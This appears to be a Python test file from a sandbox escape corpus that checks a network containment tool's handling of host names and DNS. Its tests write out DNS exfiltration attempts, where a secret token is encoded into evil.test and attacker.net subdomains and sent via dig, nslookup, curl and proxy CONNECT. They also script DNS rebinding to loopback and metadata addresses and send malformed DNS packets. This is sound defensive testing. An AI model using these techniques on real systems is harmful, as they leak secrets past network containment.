# SPDX-License-Identifier: Apache-2.0
# check: sanitized
"""
Family G of the escape corpus: names (NET-08, NET-10, NET-11, NET-25), and DNS

The resolver that the host uses logs every query, and a sniffer keeps every packet: "contained" means that neither the name nor the
address was seen there. What the test's resolver says about a name below script.test is scripted, query by query.
"""
import os
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from lib import *  # noqa: E402
import net  # noqa: E402
from net import NO_WAY, connections, inside  # noqa: E402

rig = net.enter()


def is_synthetic(text):
    return all(one.startswith(("198.18.", "198.19.", "64:ff9b:1:a701:")) for one in text.split()[1:])


@test("NET-08 a name is compared label by label in one spelling")
def _():
    code = 'for name in json.loads(arg[0]):\n    talk(name, name, 80, request("good.test"))\n'
    same_name = ["good.test", "good.test.", "GOOD.test", "gOOd.TEST."]
    others = ["evilgood.test", "good.test.evil.test", "good.tes", "ood.test", "x.good.test", "good-test", "goodXtest", "good.testx", "test", "good..test", ".good.test", "xn--good-.test", "good.test\\.evil.test",
              "_good.test", "good.test%00.evil.test", "good.test\t", "g" * 64 + ".test", ".".join(["a" * 60] * 4) + ".good.test", "go0d.test", "good.test-", "xn--gd-jiaa.test", "good.test/"]
    with Place() as place:
        rig.clear()
        result = run(place, ["--allow", "good.test"], inside("import json\n" + code, json.dumps(same_name + others)))
        result.allowed(*same_name)
        result.refused(*[name for name in others if name.strip() == name], how=(*NO_WAY, "gaierror -3", "gaierror -4", "gaierror -7"))
        same({one.split()[-1] for one in rig.queries()}, {"good.test"}, "names that were looked up")
        same({one["host"] for one in rig.requests(len(same_name))}, {"good.test"}, "requests")
        same(len(rig.requests()), len(same_name), "how many")


@test("NET-08 patterns: one star is below, two are the name and below; bad ones are errors")
def _():
    names = ["wild.test", "w.wild.test", "x.w.wild.test", "any.wild.test", "evilwild.test", "wild.test.evil.test", "good.test"]
    code = 'import json\nfor name in json.loads(arg[0]):\n    talk(name, name, 80)\n'
    with Place() as place:
        for pattern, wanted in (("*.wild.test", names[1:4]), ("**.wild.test", names[:4]), ("wild.test", names[:1])):
            rig.clear()
            result = run(place, ["--allow", pattern], inside(code, json.dumps(names)))
            result.allowed(*wanted)
            result.refused(*[name for name in names if name not in wanted], how=NO_WAY)
            same({one["host"] for one in rig.requests(len(wanted))}, set(wanted), "requests by %s" % pattern)
        for bad in ("*", "**", "*.*.test", "a*.test", "*wild.test", "wild.*", "..test", ".wild.test", "http://good.test", "good.test/x", "user@good.test", "good test", "*.", "999.1.1.1", "10.0.0.0/33", "1.2.3.4/-1", "[::1", "010.0.0.1",
                    "good.test\nevil.test", "a" * 64 + ".test"):
            done = run(place, ["--allow", bad], ["true"], starts=False)
            same(done.status, BAD_REQUEST, "--allow %r: %s" % (bad, done.err))


@test("NET-08 names beyond ASCII: the contract may say them, on the wire they are A-labels")
def _():
    with Place() as place:
        for spelling in ("bücher.test", "xn--bcher-kva.test"):
            rig.clear()
            result = run(place, ["--allow", spelling], inside(r"""
                talk("a-label", "xn--bcher-kva.test", 80)
                outcome("other", lambda: dns("bucher.test").replace("3", "no such name"))
                outcome("bytes", lambda: dns_read(dns_raw(query(b"\x07b\xc3\xbccher\x04test\0"))))
                """))
            result.allowed("a-label")
            same(result.tries["other"], "no such name", "a look-alike")
            among(result.tries["bytes"].split()[0], ("3", "1", "5"), "raw UTF-8 in a query")
            same({one.split()[-1] for one in rig.queries()}, {"xn--bcher-kva.test"}, "names that were looked up")
        for spelling in ("BÜCHER.test", "bu\u0308cher.test"):  # which programs write differently
            done = run(place, ["--allow", spelling], inside('talk("x", "xn--bcher-kva.test", 80)'), starts=False)
            check(done.status == BAD_REQUEST or done.tries.get("x") == "ok", "%s: %s %s" % (spelling, done.status, done.err))
        # A full stop of another script is a dot of a name, not part of a label.
        done = run(place, ["--allow", "good。test"], inside('talk("x", "good.test", 80)'), starts=False)
        check(done.status == BAD_REQUEST or done.tries.get("x") == "ok", "good。test: %s %s" % (done.status, done.err))


@test("NET-10 an allowed name that leads to loopback, private, link-local, shared, mapped or own addresses")
def _():
    names = ["loop.test", "private.test", "meta.test", "own.test", "cgnat.test", "zero.test", "mapped.test", "nat64.test", "multi.test", "ula.test", "linklocal.test", "synthetic.test"]
    code = 'import json\nfor name in json.loads(arg[0]):\n    talk(name, name, 80)\n'
    with Place() as place:
        rig.clear()
        result = run(place, ["--json", "--allow", "**.test", "--accept-broad", "**.test"], inside(code, json.dumps(names)))
        result.refused(*names, how=(*NO_WAY, "http 502"))
        same((rig.attempts(), rig.canaries()), ([], []), "what left, and what the host's services saw")
        check({one.split()[-1] for one in rig.queries()} >= {"private.test", "loop.test"}, "they were not looked up: %s" % rig.queries())
        reasons = {one["name"]: one["reason"] for one in connections(result)}
        for name, word in (("private.test", "private"), ("loop.test", "loopback"), ("meta.test", "metadata")):
            check(word in reasons.get(name, ""), "the reason for %s: %s" % (name, reasons.get(name)))
        # Where a literal line names it, the name may lead there: this address, this port.
        rig.clear()
        result = run(place, ["--allow", "private.test:80,7000", "--allow", "10.9.0.5:80"], inside('talk("x", "private.test", 80); talk("port", "private.test", 7000, b"x\\n")'))
        result.allowed("x")
        result.refused("port", how=NO_WAY)
        same(rig.attempts(), ["tcp 10.9.0.5:80"], "what left")


@test("NET-11 POL-16 rebinding: one lookup for a connection, bad answers dropped, no second lookup")
def _():
    with Place() as place:
        rig.clear()
        good = net.SERVER4
        rig.script("first.script.test", [good], ["127.0.0.1"])
        rig.script("second.script.test", ["127.0.0.1"], [good])
        rig.script("mixed.script.test", ["127.0.0.1", "10.9.0.5", good, net.METADATA, net.HOST4, "::1", "fd00::1"])
        rig.script("only.script.test", ["127.0.0.1", "10.9.0.5", net.METADATA, "::ffff:127.0.0.1", "::1", net.HOST4, net.HOST6])
        rig.script("alias.script.test", ["name:loop.test", "127.0.0.1", "::1"])
        rig.script("alias-out.script.test", ["name:evil.test", good])
        rig.script("flip.script.test", *([[good], ["127.0.0.1"]] * 10))
        result = run(place, ["--allow", "*.script.test"], inside(r"""
            for name in ("first", "second", "mixed", "only", "alias", "alias-out"):
                for n in range(2):
                    talk("%s %d" % (name, n), name + ".script.test", 80)
            for n in range(8):
                talk("flip %d" % n, "flip.script.test", 80)
            talk("to the synthetic address again", socket.getaddrinfo("first.script.test", 80, socket.AF_INET)[0][4][0], 80, request("first.script.test"))
            """))
        same(rig.canaries(), [], "services of the host that were reached")
        same({one for one in rig.attempts()}, {"tcp %s:80" % good}, "what left")
        result.allowed("first 0", "mixed 0", "mixed 1", "alias-out 0")
        result.refused("first 1", "second 0", "only 0", "only 1", "alias 0", "alias 1", how=(*NO_WAY, "http 502"))
        lookups = [one for one in rig.ask("asked") if one[0] == "mixed.script.test" and one[1] == 1]
        same(len(lookups), 2, "lookups for two connections")


@test("happy eyeballs: a dead IPv6 address or a dead first address costs little; a silent resolver ends")
def _():
    with Place() as place:
        rig.script("silent.script.test", "nothing")
        rig.script("refuses.script.test", "refused")
        rig.script("empty.script.test", [])
        result = run(place, ["--allow", "**.test", "--accept-broad", "**.test"], inside(r"""
            def timed(label, host):
                began = time.monotonic(); talk(label, host, 80); tell(label + " seconds", "%.1f" % (time.monotonic() - began))
            timed("half", "half.test"); timed("two", "two.test"); timed("refuses", "refuses.script.test"); timed("empty", "empty.script.test"); timed("missing", "missing.test")
            """))
        result.allowed("half", "two")
        result.refused("refuses", "empty", "missing", how=(*NO_WAY, "http 502", "http 504"))
        for label, most in (("half", 2), ("two", 4), ("refuses", 4), ("empty", 2), ("missing", 2)):
            check(float(result.tries[label + " seconds"]) <= most, "%s took %s s" % (label, result.tries[label + " seconds"]))


@test("DNS: synthetic addresses for known names, at any resolver, over UDP and TCP; NXDOMAIN at once for the rest")
def _():
    with Place() as place:
        rig.clear()
        result = run(place, ["--allow", "good.test", "--allow", "*.wild.test"], inside(r"""
            for server in ("9.9.9.9", "8.8.8.8", "192.168.1.1", "127.0.0.53", "127.0.0.1", "2001:4860:4860::8888", "::1", "10.0.0.1", "203.0.113.1"):
                for tcp in (False, True):
                    outcome("A %s %s" % (server, tcp), lambda: dns("good.test", 1, server=server, tcp=tcp))
                    outcome("AAAA %s %s" % (server, tcp), lambda: dns("good.test", 28, server=server, tcp=tcp))
                    began = time.monotonic()
                    outcome("unknown %s %s" % (server, tcp), lambda: dns(arg[0] + ".evil.test", 1, server=server, tcp=tcp))
                    tell("slow %s %s" % (server, tcp), str(time.monotonic() - began > 0.5))
            for kind in (2, 5, 6, 12, 15, 16, 33, 35, 43, 48, 64, 65, 255, 252, 10, 41, 65535):
                outcome("type %d" % kind, lambda: dns("good.test", kind))
                outcome("unknown type %d" % kind, lambda: dns(arg[0] + ".evil.test", kind))
            outcome("same", lambda: str(dns("good.test") == dns("GOOD.TEST")))
            outcome("wild", lambda: dns(arg[0] + ".wild.test"))
            outcome("edns", lambda: dns_read(dns_raw(query("good.test", edns=EDNS))))
            outcome("edns refused", lambda: dns_raw(query(arg[0] + ".evil.test", edns=EDNS)).hex())
            outcome("no recursion", lambda: dns_read(dns_raw(query("good.test", flags=0))))
            outcome("reverse", lambda: dns(".".join(reversed(dns("good.test").split()[1].split("."))) + ".in-addr.arpa", 12))
            """, place.token))
        for label, said in result.tries.items():
            kind = label.split()[0]
            if kind in ("A", "AAAA", "wild", "edns") and label != "edns refused":
                check(said.startswith("0 ") and is_synthetic(said), "%s: %s" % (label, said))
            elif label.startswith("unknown type") or kind == "unknown":
                among(said, ("3", "5", "1", "4", "EPERM"), label)
            elif kind == "type":
                among(said, ("0", "5", "4", "1"), label)
            elif kind == "slow":
                same(said, "False", label)
        same(result.tries["same"], "True", "two spellings of one name")
        check(result.tries["edns refused"].endswith("000f0002000f") or "000f" in result.tries["edns refused"], "no extended error: %s" % result.tries["edns refused"])
        among(result.tries["reverse"].split()[0], ("0", "3", "5"), "the other way round")
        same(rig.packets(), [], "packets that left the host for lookups alone")


@test("DNS: hostile messages are answered or dropped, and the resolver inside goes on")
def _():
    with Place() as place:
        rig.clear()
        result = run(place, ["--allow", "good.test"], inside(r"""
            import random
            hostile = [b"", b"\0", b"\0" * 11, b"\0" * 12, os.urandom(512), query("good.test")[:-1], query(b"\xc0\x0c"), query(b"\xc0\x0e\xc0\x0c"), query(b"\x3f" + b"a" * 63 + b"\xc0\x0c"),
                       query(b"\x40" + b"a" * 64 + b"\0"), query(b"\xff" * 50), query((b"\x3f" + b"a" * 63) * 4 + b"\0"), query(b"\x01a" * 126 + b"\0"), query(b"\x01a" * 130 + b"\0"), query(b"\0"), query("good.test") + b"x" * 3000,
                       query("good.test", edns=b"\0" + struct.pack("!HHIH", 41, 65535, 0xff, 65535)), struct.pack("!HHHHHH", 1, 0x8180, 1, 1, 1, 1) + query("good.test")[12:], struct.pack("!HHHHHH", 1, 0x2800, 1, 0, 0, 0) + query("good.test")[12:],
                       struct.pack("!HHHHHH", 1, 0x0100, 65535, 65535, 65535, 65535) + query("good.test")[12:], struct.pack("!HHHHHH", 1, 0x0100, 2, 0, 0, 0) + query("good.test")[12:] * 2,
                       query(b"\x04good\x04te\0t\0"), query(b"\x09good.test\0"), query("good.test")[:-2] + b"\0\3", query("good.test")[:-2] + b"\0\xff"]
            for n in range(len(hostile)):
                for tcp in (False, True):
                    try: dns_raw(hostile[n], tcp=tcp, wait=0.15)
                    except OSError: pass
            for n in range(300):
                message = bytearray(query("good.test", edns=EDNS))
                for _ in range(random.randrange(1, 8)): message[random.randrange(len(message))] = random.randrange(256)
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(message, ("9.9.9.9", 53))
            # over TCP: byte by byte, several at once, a length that lies, many that say nothing
            def slowly():
                with socket.create_connection(("9.9.9.9", 53), 30) as s:
                    for byte in struct.pack("!H", len(query("good.test"))) + query("good.test"): s.send(bytes([byte]))
                    return dns_read(s.recv(2000)[2:])
            outcome("slowly", slowly)
            def two():
                with socket.create_connection(("9.9.9.9", 53), 30) as s:
                    m = query("good.test"); m = struct.pack("!H", len(m)) + m
                    s.sendall(m + m); s.settimeout(30); got = b""
                    while len(got) < 2 * (2 + struct.unpack("!H", got[:2])[0] if len(got) > 2 else 1000): got += s.recv(1000)
                    return "ok"
            outcome("two", two)
            idle = [socket.create_connection(("9.9.9.9", 53), 30) for _ in range(200)]
            for s in idle: s.send(b"\xff")
            began = time.monotonic()
            outcome("after", lambda: dns("good.test"))
            for s in idle: s.close()
            time.sleep(0.1)
            outcome("after tcp", lambda: dns("good.test", tcp=True))
            tell("slow", str(time.monotonic() - began > 1))
            talk("connection", "good.test", 80)
            """))
        for label in ("slowly", "after", "after tcp"):
            check(result.tries[label].startswith("0 198.1"), "%s: %s" % (label, result.tries[label]))
        same((result.tries["two"], result.tries["slow"], result.tries["connection"]), ("ok", "False", "ok"), "the rest")
        same({one.split()[-1] for one in rig.queries()}, {"good.test"}, "names that left the host")


@test("NET-25 no byte of an unlisted name leaves by DNS, whatever asks; names below a wildcard leave only with a connection")
def _():
    code = r"""
        import subprocess, base64
        token = arg[0]
        for name in (token + ".evil.test", token + ".example.com", "x." + token + ".attacker.net", token, token + ".good.test"):
            for kind in (1, 28, 16, 65, 255, 12):
                for server in ("9.9.9.9", "8.8.8.8", "93.184.216.34"):
                    for tcp in (False, True):
                        try: dns(name, kind, server=server, tcp=tcp, wait=1)
                        except OSError: pass
            outcome("libc " + name, lambda: socket.getaddrinfo(name, 80) and "ok")
        for words in (["getent", "hosts"], ["getent", "ahosts"], ["dig", "+short", "@9.9.9.9"], ["nslookup"], ["host"], ["curl", "-s", "-m", "3"], ["curl", "-s", "-m", "3", "--noproxy", "*"], ["ping", "-c1", "-W1"]):
            try: subprocess.run([*words, token + ".evil.test"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=10)
            except OSError: pass
        # by the proxy
        for head in (b"CONNECT %s.evil.test:443 HTTP/1.1\r\n\r\n", b"GET http://%s.evil.test/ HTTP/1.1\r\nHost: x\r\n\r\n", b"CONNECT %s.good.test:443 HTTP/1.1\r\n\r\n"):
            with socket.create_connection(("127.0.0.1", 1023), 30) as s:
                s.sendall(head % token.encode()); s.settimeout(30)
                try: s.recv(1000)
                except OSError: pass
        for n in range(3): outcome("wild %d" % n, lambda: dns(token + str(n) + ".w.wild.test"))
        """
    with Place() as place:
        rig.clear()
        result = run(place, ["--allow", "good.test", "--allow", "**.wild.test"], inside(code, place.token))
        result.refused(*[label for label in result.tries if label.startswith("libc")], how=NO_WAY)
        check(all(result.tries["wild %d" % n].startswith("0 ") for n in range(3)), "names below a wildcard: %s" % result.tries)
        rig.silence(place.token)
        same(rig.packets(), [], "packets")
        # With a connection the name is looked up, and told.
        result = run(place, ["--json", "--allow", "**.wild.test"], inside('talk("x", arg[0] + ".w.wild.test", 80)', place.token))
        result.allowed("x")
        check(any(place.token in one["name"] for one in connections(result)), "not told: %s" % connections(result))
        check(any(place.token in one for one in rig.queries()), "the control: it was not looked up")


@test("many names: each keeps its address, thousands of them cost little, and a name's address is nobody else's")
def _():
    with Place() as place:
        rig.clear()
        result = run(place, ["--allow", "**.wild.test"], inside(r"""
            seen = {}
            for n in range(3000):
                address = dns("n%d.w.wild.test" % n).split()[1]
                if address in seen: tell("twice", "%s %s %d" % (address, seen[address], n))
                seen[address] = n
            outcome("first again", lambda: str(seen[dns("n0.w.wild.test").split()[1]]))
            first = [a for a, n in seen.items() if n == 0][0]
            outcome("by address", lambda: reach(first, 80, request("n0.w.wild.test")))
            outcome("another's", lambda: reach(first, 80, request("n1.w.wild.test")))
            outcome("nobody's", lambda: reach("198.19.255.77", 80, request("n1.w.wild.test")))
            """), timeout=90)
        check("twice" not in result.tries, "an address twice: %s" % result.tries.get("twice"))
        same(result.tries["first again"], "0", "the first name's address after 3000")
        result.allowed("by address")
        result.refused("another's", "nobody's", how=(*NO_WAY, "http 421"))
        same({one["host"] for one in rig.requests(1)}, {"n0.w.wild.test"}, "requests")


@test("names of the host's /etc/hosts count no more than others, and localhost inside is inside")
def _():
    with Place() as place:
        rig.clear()
        result = run(place, ["--allow", "good.test"], inside(r"""
            server = socket.create_server(("127.0.0.1", 8099))
            c = socket.create_connection(("localhost", 8099), 30); tell("localhost", "ok")
            talk("canary", "localhost", 7777)
            talk("machine", "ip6-localhost", 7777)
            """))
        result.allowed("localhost")
        result.refused("canary", how=NO_WAY)
        result.refused("machine", how=(*NO_WAY, "gaierror -3"))
        rig.silence()


main()
